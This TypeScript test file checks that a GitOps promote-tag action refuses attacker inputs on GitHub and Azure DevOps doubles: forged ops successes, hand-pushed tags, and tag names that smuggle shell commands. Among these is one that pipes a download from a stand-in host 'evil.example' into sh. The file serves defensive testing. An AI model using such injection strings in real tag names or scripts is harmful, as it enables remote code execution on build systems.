import { afterEach, describe, expect, it } from 'vitest';
import { type AzureDevOpsApi, startAzureApi } from './doubles/azure-api';
import { type GitHubApiDouble, isWrite, startGitHubDouble } from './doubles/github-api';
import { type BundleRun, runAzure, runGitHub } from './support/bundle';
import { type GitFixture, git, gitFixture } from './support/git';

/**
 * promote-tag (git-tag strategy) tried as an attacker would, through the built bundle on both hosting
 * doubles: a deploy tag pushed by hand with a forged success, tag names a script would execute.
 */

interface Host {
  name: 'github' | 'azure';
  run(sha: string, inputs: Record<string, string>): Promise<BundleRun>;
  /** ops "reports success" for `sha`, as anyone with status access could post it. */
  opsSuccess(sha: string): void;
  /** Requests that write (anything but GET). */
  writes(): string[];
  requestCount(): number;
  close(): Promise<void>;
}

async function githubHost(fx: GitFixture): Promise<Host> {
  const api: GitHubApiDouble = await startGitHubDouble(fx.remote);
  return {
    name: 'github',
    run: (sha, inputs) =>
      runGitHub('promote-tag', {
        cwd: fx.work,
        sha,
        env: api.env(),
        inputs: { token: api.token, ...inputs },
      }),
    opsSuccess: (sha) => {
      api.addStatus(sha, { context: 'gitops-promote/ops', state: 'success', description: 'applied' });
    },
    writes: () => api.requests.filter(isWrite).map((r) => `${r.method} ${r.path}`),
    requestCount: () => api.requests.length,
    close: () => api.close(),
  };
}

async function azureHost(fx: GitFixture): Promise<Host> {
  const api: AzureDevOpsApi = await startAzureApi({ repo: fx.remote });
  return {
    name: 'azure',
    run: (sha, inputs) =>
      runAzure('promote-tag', {
        cwd: fx.work,
        sha,
        env: api.env(),
        inputs,
      }),
    opsSuccess: (sha) => {
      api.addStatus(sha, {
        genre: 'gitops-promote',
        name: 'ops',
        state: 'succeeded',
        description: 'applied',
      });
    },
    // Azure DevOps lists pull requests by POST pullrequestquery; no such read happens here.
    writes: () => api.requests.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.path}`),
    requestCount: () => api.requests.length,
    close: () => api.close(),
  };
}

let host: Host | undefined;
afterEach(async () => {
  await host?.close();
  host = undefined;
});

const CONFIG =
  'environments:\n  - name: ops\n  - name: apps\n  - name: apps-prod\nstatus: { timeout: 2s, interval: 1s }\n';

const remoteTags = (fx: GitFixture) =>
  git(
    fx.remote,
    'for-each-ref',
    '--format=%(refname:short) %(if)%(*objectname)%(then)%(*objectname)%(else)%(objectname)%(end)',
    'refs/tags',
  )
    .split('\n')
    .filter(Boolean);

/** A tag pushed straight to the remote, as a person with push access would. */
function pushTag(fx: GitFixture, name: string, sha: string): void {
  git(fx.remote, 'update-ref', `refs/tags/${name}`, sha);
}

describe.each([
  ['GitHub Actions + GitHub API', githubHost],
  ['Azure Pipelines + Azure DevOps API', azureHost],
] as const)('promote-tag on %s', (_title, make) => {
  it('a deploy tag pushed by hand on a commit not on main, with a forged ops success, is refused', async () => {
    const fx = gitFixture({ 'gitops-promote.yaml': CONFIG });
    host = await make(fx);
    fx.git('checkout', '-q', '-b', 'feature/backdoor');
    const feature = fx.commit({ 'infra/x.tf': '# not reviewed\n' });
    fx.git('push', '-q', 'origin', 'feature/backdoor');
    pushTag(fx, 'apps-deploy-20260101000000', feature);
    host.opsSuccess(feature);
    const before = remoteTags(fx);

    const r = await host.run(feature, { environment: 'apps', sha: feature });
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      `promote-tag: commit ${feature.slice(0, 12)} is not on main: only merged commits are promoted (nothing was created)`,
    );
    expect(r.outputs.created).toBeUndefined();
    expect(r.outputs.tag).toBeUndefined();
    expect(r.stdout + r.stderr).not.toContain('nothing to do');
    expect(remoteTags(fx)).toEqual(before);
    expect(host.writes()).toEqual([]);
  });

  it('a deploy tag pushed by hand on main without an ops result is refused: the gate runs first', async () => {
    const fx = gitFixture({ 'gitops-promote.yaml': CONFIG });
    host = await make(fx);
    const main = fx.git('rev-parse', 'HEAD');
    pushTag(fx, 'apps-deploy-20260101000000', main);

    const r = await host.run(main, { environment: 'apps', sha: main });
    expect(r.code).toBe(1);
    expect(r.failure).toContain(`promote-tag: ops has no result for commit ${main.slice(0, 12)} after 2s`);
    expect(r.failure).toContain('(nothing was created)');
    expect(r.outputs.created).toBeUndefined();
    expect(remoteTags(fx)).toEqual([`apps-deploy-20260101000000 ${main}`]);
    expect(host.writes()).toEqual([]);
  });

  it('once ops succeeded, the same hand-pushed tag on main is the promotion: created=false, nothing written', async () => {
    const fx = gitFixture({ 'gitops-promote.yaml': CONFIG });
    host = await make(fx);
    const main = fx.git('rev-parse', 'HEAD');
    pushTag(fx, 'apps-deploy-20260101000000', main);
    host.opsSuccess(main);

    const r = await host.run(main, { environment: 'apps', sha: main });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.outputs).toMatchObject({ tag: 'apps-deploy-20260101000000', created: 'false', sha: main });
    expect(host.writes()).toEqual([]);
  });

  it('an existing tag with a name a script would execute is never output: refused, nothing created', async () => {
    const fx = gitFixture({ 'gitops-promote.yaml': CONFIG });
    host = await make(fx);
    const main = fx.git('rev-parse', 'HEAD');
    const hostile = 'apps-deploy-$(curl$IFS"evil.example"|sh)';
    pushTag(fx, hostile, main);
    host.opsSuccess(main);

    const r = await host.run(main, { environment: 'apps', sha: main });
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      `promote-tag: tag ${JSON.stringify(hostile)} on ${main.slice(0, 12)} matches the deploy tags of apps but uses characters outside A-Z a-z 0-9 . _ - /; gitops-promote made no such tag: delete it, then run again (nothing was created)`,
    );
    expect(r.outputs.tag).toBeUndefined();
    expect(remoteTags(fx)).toEqual([`${hostile} ${main}`]);
    expect(host.writes()).toEqual([]);
  });

  it.each([
    ['apps-deploy-$(id)', '"$"'],
    ['apps-deploy-`id`', '"`"'],
    ['apps-deploy-1;id', '";"'],
    ['apps-deploy-1|id', '"|"'],
    ['apps-deploy-1&&id', '"&"'],
    ["apps-deploy-'1'", `"'"`],
    ['apps-deploy-"1"', '"\\""'],
    ['apps-deploy-1>out', '">"'],
    ['apps-deploy-$X', '"$"'],
    ['apps-deploy-ü', '"ü"'],
    ['apps-deploy-1\nid', '"\\n"'],
  ])('input tag %j is refused before any API call', async (tag, shown) => {
    const fx = gitFixture({ 'gitops-promote.yaml': CONFIG });
    host = await make(fx);
    const main = fx.git('rev-parse', 'HEAD');
    host.opsSuccess(main);
    const r = await host.run(main, { environment: 'apps', sha: main, tag });
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      `promote-tag: input tag: ${JSON.stringify(tag)} is not valid; it contains ${shown}; deploy tag names use only A-Z a-z 0-9 . _ - /`,
    );
    expect(host.requestCount()).toBe(0);
    expect(remoteTags(fx)).toEqual([]);
  });

  it('a tag name with only the allowed characters, slashes included, is created', async () => {
    const fx = gitFixture({
      'gitops-promote.yaml': CONFIG.replace(
        '  - name: apps\n',
        '  - name: apps\n    on: { tag: "deploy/apps/*" }\n',
      ),
    });
    host = await make(fx);
    const main = fx.git('rev-parse', 'HEAD');
    host.opsSuccess(main);
    const r = await host.run(main, { environment: 'apps', sha: main, tag: 'deploy/apps/v1.2_3-rc.4' });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.outputs).toMatchObject({ tag: 'deploy/apps/v1.2_3-rc.4', created: 'true' });
    expect(remoteTags(fx)).toEqual([`deploy/apps/v1.2_3-rc.4 ${main}`]);
  });
});

describe('promote-tag default tag names', () => {
  it('a tag glob whose default name a script would execute is refused before any API call', async () => {
    const fx = gitFixture({
      'gitops-promote.yaml': CONFIG.replace(
        '  - name: apps\n',
        '  - name: apps\n    on: { tag: "apps-$(id)-*" }\n',
      ),
    });
    host = await githubHost(fx);
    const main = fx.git('rev-parse', 'HEAD');
    const r = await host.run(main, { environment: 'apps', sha: main });
    expect(r.code).toBe(1);
    // Refused by the step, or earlier by the configuration check: either way naming the glob.
    expect(r.failure).toContain('apps-$(id)-*');
    expect(r.outputs.tag).toBeUndefined();
    expect(host.requestCount()).toBe(0);
    expect(remoteTags(fx)).toEqual([]);
  });

  it('strategy git-tag into an environment deployed from a branch names the input', async () => {
    const fx = gitFixture({
      'gitops-promote.yaml':
        'main-branch: dev\nenvironments:\n  - { name: dev, on: { branch: dev } }\n  - { name: stage, on: { branch: stage } }\n',
    });
    host = await githubHost(fx);
    const main = fx.git('rev-parse', 'HEAD');
    const r = await host.run(main, { strategy: 'git-tag', environment: 'stage', sha: main });
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      'promote-tag: input strategy: "git-tag" is not valid; stage deploys from branch stage, not from tags: use strategy branch',
    );
    expect(host.requestCount()).toBe(0);
  });
});

describe('GitHub check runs named like our own statuses', () => {
  it('a check run "gitops-promote/ops" does not stand in for ops: the gate and promote-tag refuse', async () => {
    const fx = gitFixture({ 'gitops-promote.yaml': CONFIG });
    const api = await startGitHubDouble(fx.remote);
    host = { ...(await githubHost(fx)), close: () => api.close() };
    const main = fx.git('rev-parse', 'HEAD');
    // Any app with checks:write can post this; gitops-promote itself writes commit statuses only.
    api.addCheckRun(main, { name: 'gitops-promote/ops', conclusion: 'success' });
    const env = { ...api.env(), GITHUB_TOKEN: api.token };
    const gate = await runGitHub('check-previous-env', {
      cwd: fx.work,
      sha: main,
      env,
      inputs: { environment: 'apps', sha: main, timeout: '1s', interval: '1s' },
    });
    expect(gate.code).toBe(1);
    expect(gate.outputs.state).toBe('missing');
    const promote = await runGitHub('promote-tag', {
      cwd: fx.work,
      sha: main,
      env,
      inputs: { environment: 'apps', sha: main },
    });
    expect(promote.code).toBe(1);
    expect(promote.outputs.created).toBeUndefined();
    expect(remoteTags(fx)).toEqual([]);
    // The same success as a commit status is taken: the check run was the only thing missing.
    api.addStatus(main, { context: 'gitops-promote/ops', state: 'success', description: 'applied' });
    const passed = await runGitHub('check-previous-env', {
      cwd: fx.work,
      sha: main,
      env,
      inputs: { environment: 'apps', sha: main, timeout: '1s', interval: '1s' },
    });
    expect(passed.outputs.state).toBe('success');
  });
});
